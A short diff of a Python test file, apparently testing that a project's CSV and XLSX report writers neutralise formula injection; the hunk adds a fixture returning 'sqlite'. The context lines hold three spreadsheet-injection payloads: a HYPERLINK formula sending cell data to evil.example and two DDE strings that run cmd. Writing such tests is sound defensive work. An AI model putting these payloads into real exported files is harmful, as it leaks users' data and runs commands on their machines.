@@ -13,6 +13,13 @@ from caseworker.cli import main
 from caseworker.reports.writers import neutralise
 from db.store import Store
 
+
+@pytest.fixture
+def engine_name() -> str:
+    """What the CSV and XLSX writers put in a file; the store behind them is a file."""
+    return "sqlite"
+
+
 SITE = '=HYPERLINK("http://evil.example/?"&B3, "Click for details")'
 AREA = "+cmd|' /C calc'!A0"
 THEME = "@SUM(1+1)*cmd|' /C calc'!A0"
